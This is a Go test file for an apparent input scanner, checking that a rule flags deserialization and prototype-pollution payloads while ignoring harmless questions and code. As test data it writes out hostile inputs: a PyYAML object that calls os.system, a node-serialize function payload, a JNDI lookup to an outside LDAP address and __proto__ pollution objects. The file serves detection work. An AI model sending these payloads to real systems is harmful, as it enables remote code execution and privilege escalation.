package unsafe

import (
	"testing"

	"github.com/wardenhq/warden/internal/scan"
)

func TestPayloads(t *testing.T) {
	runRuleCases(t, NewUnsafeInput(), scan.Argument, []ruleCase{
		{"node-serialize", `{"x":"_$$ND_FUNC$$_function(){}()"}`, ruleDeserialization, scan.High},
		{"pyyaml apply", "!!python/object/apply:os.system ['id']", ruleDeserialization, scan.High},
		{"java gadget", "CommonsCollections chain via InvokerTransformer", ruleDeserialization, scan.High},
		{"java stream base64", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ", ruleDeserialization, scan.High},
		{"jndi", "${jndi:ldap://198.51.100.7/a}", ruleDeserialization, scan.Critical},
		{"proto key", `{"__proto__": {"isAdmin": true}}`, rulePrototype, scan.High},
		{"proto query", "/api?__proto__[isAdmin]=true", rulePrototype, scan.High},
		{"constructor prototype", `{"constructor": {"prototype": {"polluted": 1}}}`, rulePrototype, scan.High},

		{"prototype chain question", "Explain the prototype chain. How does Object.create(null) differ from {}?", "", ""},
		{"constructor in code", "class A { constructor(x) { this.x = x } }", "", ""},
		{"proto in prose", "the __proto__ accessor is deprecated", "", ""},
		{"pickle question", "Why is pickle.loads unsafe on untrusted input?", "", ""},
	})
	// An object key "__proto__" in arguments, as the scanner walks keys.
	ms := NewUnsafeInput().Detect(scan.Input{Text: "__proto__", Provenance: scan.Argument, InKey: true}, nil)
	if maxSeverity(ms) < scan.SeverityRank(scan.High) {
		t.Errorf("Detect(key __proto__) = %v, want prototype-pollution high", ms)
	}
}
